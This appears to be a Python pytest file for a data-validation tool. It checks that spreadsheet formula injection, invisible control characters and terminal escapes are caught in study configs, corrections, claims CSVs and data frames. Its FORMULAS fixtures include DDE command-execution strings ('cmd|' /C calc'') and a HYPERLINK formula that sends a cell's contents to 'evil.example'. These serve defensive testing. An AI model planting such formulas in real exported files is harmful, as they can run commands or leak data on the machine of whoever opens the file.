"""Texts that would act elsewhere are refused where they come in, and none is altered on its way out."""

from __future__ import annotations

import tomllib
from datetime import date
from typing import Any

import polars as pl
import pytest
from tests.reliability import hostile
from tests.reliability.fuzz import seeds

from obs.claims.register import check
from obs.contracts import check_observations, harmful_texts
from obs.errors import ConfigError
from obs.observations import observation_frame
from obs.study import parse, template
from obs.study.corrections import read_corrections
from obs.texts import harm_of, in_line, is_formula

FORMULAS = (
    *(
        "=1+1",
        "=cmd|' /C calc'!A0",
        "@SUM(1+1)",
        "+1+1",
        "-1+1",
        "-2+3+cmd|' /C calc'!A0",
        "+HYPERLINK(1)",
        "--1",
    ),
    *(
        "\t=1",
        "\r=1",
        "\n=1",
        "\tSUM(1)",
        "\nSUM(1)",
        " =1",
        "\u00a0=1",
        "\ufeff=1",
        "＝1",
        "＋1+1",
        "+a1",
        "-a1",
        "-(1)",
        "+A1 B2",
    ),
    *("a;=cmd|' /C calc'!A0", 'a; "=1"', "a\t=1", "a\n@SUM(1)", ";;＝1"),
    *('=HYPERLINK("http://evil.example?x="&A1)', "-1 +cmd|x", "+1 =2", "-1.5%+1", "-1 x!A1"),
)
HARMLESS = (
    *(
        "",
        "-",
        "+",
        "..",
        "-3",
        "-3.25",
        "+0.5",
        "-1,5",
        "-3.2 in the source",
        "- none",
        "+3 %",
        "-3%",
        "1=1",
        "a=b",
    ),
    *(
        "a @ b",
        "Påhittat",
        "'=1",
        "<script>",
        "a; -3.2 in the source; +1",
        "N31857;N31002",
        "100+",
        "10-19",
        "a\tb",
        "a\nb",
        "–3",
        "−3",
        "κόσμε",
        "👋\u200d",
        "می\u200cخواهم",
    ),
)
UNSEEN = (
    *("a\x00", "\x1b[2J", "a\x7f", "a\x9b", "a\u202eb", "\u2066", "a\ud800", "a\r\x08"),
    *(
        f"Hag{chr(code)}fors"
        for code in (0x61C, 0x180E, 0x200B, 0x200E, 0x200F, 0x2028, 0x2029, 0x2060, 0xFEFF)
    ),
    *(f"Hag{chr(code)}fors" for code in (0x202A, 0x202D, 0x2067, 0x2069, 0x206F, 0xFFF9, 0xE0041)),
)


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_takes_for_a_formula(text: str) -> None:
    assert is_formula(text)
    assert "formula" in harm_of(text) or "not seen" in harm_of(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_signs_and_words_are_no_formulas(text: str) -> None:
    assert harm_of(text) == ""


@pytest.mark.parametrize("text", UNSEEN)
def test_characters_that_act_unseen(text: str) -> None:
    assert "not seen" in harm_of(text)


@pytest.mark.parametrize("text", UNSEEN)
def test_a_text_in_a_line_does_not_act(text: str) -> None:
    assert harm_of(in_line(text)) == ""


def test_a_text_in_a_line_stays_one_line_and_letters_stay_as_they_are() -> None:
    assert in_line("Påhittat – 1\n\x1b[2J") == "Påhittat – 1\\n\\x1b[2J"


def _problems(values: dict[str, Any]) -> str:
    with pytest.raises(ConfigError) as raised:
        parse(values, file="obs.toml", folder=None)
    return raised.value.message


@pytest.mark.parametrize("text", ["=1+1", "\x1b[2J", "a\u202eb"])
def test_every_text_of_a_study_is_looked_at(text: str) -> None:
    """Each key of obs.toml that holds text is told, nested ones and lists too."""
    body = hostile.study(text)
    told = _problems(tomllib.loads(body))
    keys = [line.split(" = ")[0] for line in body.splitlines() if hostile.toml(text) in line]
    assert len(keys) > 20
    for key in keys:
        assert f"{key}: " in told or f"{key}[" in told
    assert told.count("formula" if text[0] == "=" else "not seen") >= len(keys)


def test_every_text_of_a_correction_is_looked_at() -> None:
    study = parse(tomllib.loads(seeds.STUDY), file="obs.toml", folder=None)
    body = seeds.CORRECTIONS.replace('"Brev"', '"=1+1"').encode()
    found = read_corrections(body, "corrections.toml", study, today=date(2026, 11, 20))
    assert [each.code for each in found.problems] == ["correction"] * 2
    assert not found.entries


@pytest.mark.parametrize("column", ["title", "note", "document", "publisher", "need", "title_sv", "need_sv"])
def test_every_text_of_a_claim_is_looked_at(column: str) -> None:
    """A finding with line and column; numbers below zero are none."""
    head = hostile.CLAIMS.strip().split(",")
    row = dict.fromkeys(head, "") | {"id": "A1", "region": "1783", "kind": "change", "value_from": "-3"}
    row |= {"title": "x", "document": "x", "publisher": "x", column: "=1+1"}
    body = f"{','.join(head)}\n{','.join(row[name] for name in head)}\n".encode()
    found = [each for each in check(body, "claims.csv") if each.severity == "error"]
    assert [(each.code, each.place.row, each.place.column) for each in found] == [("harmful-text", 2, column)]


def test_the_built_in_study_has_no_such_text() -> None:
    assert check(template("claims.csv").encode(), "claims.csv") == []


@pytest.mark.parametrize("note", ["=1+1", "\x1b[2J", "+cmd|x"])
def test_a_note_of_a_source_that_would_act_breaks_the_contract(note: str) -> None:
    """A series with one is not stored; a lone sign, as SCB writes it, passes."""
    rows = [
        ("N99001", "9901", "2021", "T", 1.0, "reported", "-"),
        ("N99001", "9901", "2022", "T", 1.0, "reported", note),
    ]
    columns = ["indicator", "region", "period", "sex", "value", "status", "note"]
    frame = observation_frame(pl.DataFrame(rows, schema=columns, orient="row"))
    (found,) = check_observations(frame)
    assert (found.code, found.place.row, found.place.column) == ("harmful-text", 2, "note")
    assert check_observations(frame.head(1)) == []


def test_every_column_of_text_is_looked_at_and_the_list_ends() -> None:
    """Strings, categories and enums; numbers are left alone; of many texts the first are listed."""
    texts = [f"=A{number}" for number in range(30)]
    frame = pl.DataFrame(
        {
            "a": texts,
            "b": pl.Series(texts, dtype=pl.Categorical()),
            "c": range(30),
            "d": ["x"] * 30,
            "e": pl.Series(texts, dtype=pl.Enum(texts)),
        }
    )
    found = list(harmful_texts(frame))
    assert {each.place.column for each in found} == {"a", "b", "e"}
    assert len(found) == 3 * 21
    assert list(harmful_texts(frame, ["d"])) == []
